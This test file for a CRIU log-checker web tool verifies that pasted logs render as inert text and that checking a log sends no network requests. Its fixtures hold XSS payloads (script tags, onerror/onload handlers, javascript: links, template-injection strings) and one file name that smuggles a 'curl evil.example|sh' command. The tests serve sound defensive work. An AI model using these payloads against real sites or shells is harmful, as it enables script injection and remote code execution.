// The checker is private and safe by construction: log text is shown as text wherever it appears
// (log lines, the log view, captured values, the wrapper's log path, commands), and from the moment
// the page is ready nothing is fetched while a log is pasted, opened, checked, scrolled or shared.
import { describe, expect, it } from "vitest";
import { RESTORE_LOG, diagnosed, dropFile, openFile, paste, reportMissingChromium, rootCause, status, useChecker } from "./helpers/checker.ts";
import { site } from "./helpers/paths.ts";
import { traces } from "./helpers/traces.ts";

reportMissingChromium();

const HOSTILE = [
  // Markup in a line a rule matches, after the match.
  `(00.021345)  16817: Error (criu/cr-restore.c:1539): Pid 17550 do not match expected 16817 <img src=x onerror="window.__pwned=1;alert(1)">`,
  // Markup in lines no article explains (shown in the list and the proposal link).
  `(00.021402) Error (criu/xss-probe.c:1): unexplained <script>window.__pwned=2;alert(2)</script> message`,
  `(00.021500) Error (criu/xss-probe.c:2): also <img src=x onerror=alert(3)><svg onload=alert(4)></svg> &amp; <b>bold</b>`,
  // Markup inside captured values: runc's log path (\S+, so no spaces) fills the wrapper box and commands.
  `ERRO[0000] criu failed: type NOTIFY errno 0`,
  `log file: /tmp/<img/src=x/onerror=window.__pwned=5;alert(5)>/<script>window.__pwned=6</script>.log`,
].join("\n");

// Payloads of every kind, each setting its own value of window.__pwned should it ever run: markup
// that closes an attribute first, script URLs, template and placeholder syntax, Markdown links.
// PATH is what file-mode-mismatch captures as `path` (`.+?`: any text); MOUNT is a mount point
// that is one plain word for the shell, so it goes into commands; both also travel in the share link.
const PATH = `srv/"><svg onload=window.__pwned=11>/<img src=x onerror=window.__pwned=12>/{{constructor.constructor('window.__pwned=13')()}}/\${window.__pwned=14}/{expected}/[docs](javascript:window.__pwned=15)`;
const MOUNT = "javascript:window.__pwned=16//x";
const PLAIN_BEFORE = `(00.035000)    565: <b>plain</b> line "><svg onload=window.__pwned=20> [docs](javascript:window.__pwned=21) {{7*7}}`;
const PLAIN_AFTER = "(00.035200)    565: <script>window.__pwned=22</script> after";
const UNEXPLAINED = `(00.050000) Error (criu/xss-probe.c:3): unknown "><svg onload=window.__pwned=17> [docs](javascript:window.__pwned=18) {{constructor.constructor('window.__pwned=19')()}} \`\`\` <img src=x onerror=window.__pwned=23>`;
const CAPTURE_LOG = [
  "(00.000000) Version: 3.19 (gitid v3.19)",
  PLAIN_BEFORE,
  `(00.035101)    565: Error (criu/files-reg.c:2294): File ${PATH} has bad mode 0100755 (expect 0100775)`,
  PLAIN_AFTER,
  `(00.012407) Error (criu/mount.c:753): mnt: 318:${MOUNT} doesn't have a proper root mount`,
  UNEXPLAINED,
].join("\n");

describe.runIf(status === "run")("the checker is safe and private", () => {
  const checker = useChecker();

  it("shows markup from the log as text: in lines, captures, the log path and commands", async () => {
    const { page, requests } = await checker.open();
    await paste(page, HOSTILE);
    await diagnosed(page);
    await rootCause(page).locator("button.ck-show").click();
    await page.locator("#logview-scroller .ck-row--target:not(.ck-row--loading)").waitFor();

    const markup = "#results img, #results script, #results svg, #results b, #logview img, #logview script, #logview svg, #logview b";
    await expect(page.locator(markup).count()).resolves.toBe(0);
    const text = (await page.locator("#results").textContent()) ?? "";
    expect(text).toContain(`<img src=x onerror="window.__pwned=1;alert(1)">`);
    expect(text).toContain("<script>window.__pwned=2;alert(2)</script>");
    expect(text).toContain("<svg onload=alert(4)></svg> &amp; <b>bold</b>");
    // The captured path is shown as text (what was detected, the share link's field), but it is not
    // one plain word, so it is kept out of the commands a reader would paste.
    const path = "/tmp/<img/src=x/onerror=window.__pwned=5;alert(5)>/<script>window.__pwned=6</script>.log";
    await expect(page.locator("#results .ck-detected").textContent()).resolves.toContain(path);
    const commands = await page.locator("#results pre.command").allTextContents();
    expect(commands.some((c) => c.includes("<script>"))).toBe(false);
    const runc = await page.locator('#results [data-finding="runc-criu-failed"] pre.command').allTextContents();
    expect(runc.some((c) => c.includes("{logPath}"))).toBe(true);
    expect(decodeURIComponent(await page.locator("#share-url").inputValue())).toContain(path);
    const logView = (await page.locator("#logview-scroller").textContent()) ?? "";
    expect(logView).toContain(`<img src=x onerror="window.__pwned=1;alert(1)">`);

    await page.waitForTimeout(200);
    await expect(page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).resolves.toBeUndefined();
    expect(requests).toEqual([]);
  });

  it("keeps payloads inside captured values inert: card, context, commands, log view, share link, shared diagnosis", async () => {
    const { page } = await checker.open();
    await paste(page, CAPTURE_LOG);
    await diagnosed(page);
    const file = page.locator('#results [data-finding="file-mode-mismatch"]');
    const mount = page.locator('#results [data-finding="mount-no-proper-root"]');
    await file.waitFor();
    await mount.waitFor();

    // The captured values, exactly as in the log.
    await expect(file.locator(".ck-captures").textContent()).resolves.toContain(PATH);
    await expect(mount.locator(".ck-captures").textContent()).resolves.toContain(MOUNT);
    // The lines around the cause, payloads and all, as text.
    const context = (await file.locator(".ck-ex__pre").first().textContent()) ?? "";
    for (const line of [PLAIN_BEFORE, PLAIN_AFTER]) expect(context).toContain(line.slice(line.indexOf("565:")));
    // Commands: {expected} is filled in at its own placeholder only (not inside the path, which has
    // "{expected}" in it), and the path, not a plain word, stays a placeholder. The plain-word mount
    // point goes in, as text.
    const chmod = (await file.locator("pre.command").first().textContent()) ?? "";
    expect(chmod).toBe(`chmod "$(printf '%o' $(( 0100775 & 07777 )))" '/{path}'`);
    const skip = await mount.locator("pre.command").allTextContents();
    expect(skip).toContain(`criu dump -t <pid> -D <images-dir> --skip-mnt ${MOUNT}`);
    await expect(mount.locator("pre.command mark.capture").first().textContent()).resolves.toBe(MOUNT);

    // The log view: every row of the log, as text.
    await file.locator("button.ck-show").click();
    await page.locator("#logview-scroller .ck-row--target:not(.ck-row--loading)").waitFor();
    const logView = (await page.locator("#logview-scroller").textContent()) ?? "";
    expect(logView).toContain(PATH);
    expect(logView).toContain("<b>plain</b>");
    expect(logView).toContain("<script>window.__pwned=22</script>");

    // The share link carries the values percent-encoded, and reading it back gives them as text.
    const share = await page.locator("#share-url").inputValue();
    const hash = new URL(share).hash;
    expect(hash).not.toMatch(/[<>"`{} ]/);
    expect(decodeURIComponent(hash)).toContain(PATH);
    expect(decodeURIComponent(hash)).toContain(MOUNT);
    await page.waitForTimeout(200);
    expect(await traces(page)).toEqual([]);

    const shared = await checker.open({ path: `/check/${hash}`, state: "done" });
    const sharedFile = shared.page.locator('#results [data-finding="file-mode-mismatch"]');
    await expect(sharedFile.locator(".ck-captures").textContent()).resolves.toContain(PATH);
    await expect(sharedFile.locator("pre.command").first().textContent()).resolves.toBe(chmod);
    await expect(shared.page.locator('#results [data-finding="mount-no-proper-root"] pre.command').allTextContents()).resolves.toContain(
      `criu dump -t <pid> -D <images-dir> --skip-mnt ${MOUNT}`,
    );
    await shared.page.waitForTimeout(200);
    expect(await traces(shared.page)).toEqual([]);
    expect(shared.requests).toEqual([]);
  });

  it("keeps payloads in an unexplained line inert: the list, its search link and its proposal", async () => {
    const { page, requests } = await checker.open();
    await paste(page, CAPTURE_LOG);
    await diagnosed(page);
    const item = page.locator("#results .ck-unmatched > li");
    await expect(item.count()).resolves.toBe(1);
    await expect(item.locator(".ck-ex__pre").textContent()).resolves.toContain(UNEXPLAINED.slice(UNEXPLAINED.indexOf("Error (")));

    // The search link stays on the site and carries words only.
    const search = (await item.locator("a", { hasText: "Search the articles" }).getAttribute("href"))!;
    expect(search.startsWith(`${site("/search/")}?q=`)).toBe(true);
    expect(decodeURIComponent(search.slice(search.indexOf("?q=") + 3))).not.toMatch(/[<>"'`{}()[\]=]/);
    // The proposal opens GitHub's new-issue page; the message is in its body as text, inside a fence
    // that its own backticks cannot close.
    const proposal = new URL((await item.locator("a", { hasText: "Propose an article" }).getAttribute("href"))!);
    expect(proposal.origin + proposal.pathname).toBe("https://github.com/criu-doctor/criu-doctor/issues/new");
    const body = proposal.searchParams.get("body")!;
    const lines = body.split("\n");
    const message = lines.findIndex((l) => l.includes(`<svg onload=window.__pwned=17>`));
    expect(lines[message]).toContain("[docs](javascript:window.__pwned=18) {{constructor.constructor('window.__pwned=19')()}} ``` <img src=x onerror=window.__pwned=23>");
    expect(lines[message - 1]).toMatch(/^`{4,}$/);
    expect(lines[message + 1]).toBe(lines[message - 1]);
    await page.waitForTimeout(200);
    expect(await traces(page)).toEqual([]);
    expect(requests).toEqual([]);

    // The search the link opens.
    await page.goto(new URL(search, page.url()).href);
    await page.waitForSelector("[data-search][data-state=done]");
    expect(await traces(page)).toEqual([]);
  });

  it("shows a hostile query as text on the search page", async () => {
    const context = await checker.browser().newContext();
    try {
      const page = await context.newPage();
      const dialogs: string[] = [];
      page.on("dialog", (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      const query = `"><svg onload=window.__pwned=30> <img src=x onerror=window.__pwned=31> [docs](javascript:window.__pwned=32) {{7*7}} mount`;
      await page.goto(`${checker.server().origin}${site("/search/")}?q=${encodeURIComponent(query)}`);
      await page.waitForSelector("[data-search][data-state=done]");
      await expect(page.locator("[data-search] input[type=search]").first().inputValue()).resolves.toBe(query);
      await expect(page.locator("[data-search-status]").textContent()).resolves.toContain("“");
      await page.waitForTimeout(200);
      expect(await traces(page)).toEqual([]);
      expect(dialogs).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it("keeps a wrapper's log path that is not a plain word out of the command to read it", async () => {
    const { page } = await checker.open();
    const path = "/tmp/x;curl${IFS}evil.example|sh.log";
    await paste(page, `ERRO[0000] criu failed: type NOTIFY errno 0\nlog file: ${path}\n`);
    await diagnosed(page);
    await expect(page.locator("#results .ck-wrapper__path").textContent()).resolves.toBe(path);
    await expect(page.locator("#results .ck-wrapper pre.command").textContent()).resolves.toBe("sudo cat {logPath}");
  });

  it("makes no request while checking a pasted, dropped or opened log, nor while showing it", async () => {
    const { page, requests } = await checker.open();
    const big = `${Array.from({ length: 60_000 }, (_, i) => `(00.${String(i).padStart(6, "0")}) Collected 3 in 12 state`).join("\n")}\n${RESTORE_LOG}`;
    await paste(page, big); // larger than the textarea takes: held in memory, sent in pieces
    await diagnosed(page);
    await dropFile(page, "dropped.log", RESTORE_LOG);
    await page.waitForFunction(() => document.querySelector(".ck-stats")?.textContent?.startsWith("dropped.log"));
    await openFile(page, "opened.log", big);
    await page.waitForFunction(() => document.querySelector(".ck-stats")?.textContent?.startsWith("opened.log"));
    // The log view fetches its lines from the worker, not from the network.
    await page.locator("#logview-line").fill("30000");
    await page.locator("#logview-line").press("Enter");
    await page.locator('#logview-scroller .ck-row[data-line="30000"]:not(.ck-row--loading)').waitFor();
    await page.locator("#logview-scroller").press("End");
    await page.locator(`#logview-scroller .ck-row[data-line="60013"]:not(.ck-row--loading)`).waitFor();
    await page.locator("#share-url").waitFor();
    expect(requests).toEqual([]);
  });

  it("keeps the log out of the address bar and out of the page's storage", async () => {
    const { page } = await checker.open();
    await paste(page, RESTORE_LOG);
    await diagnosed(page);
    expect(page.url()).not.toContain("17550");
    const stored = await page.evaluate(() => JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }) + document.cookie);
    expect(stored).not.toContain("Pid");
  });
});
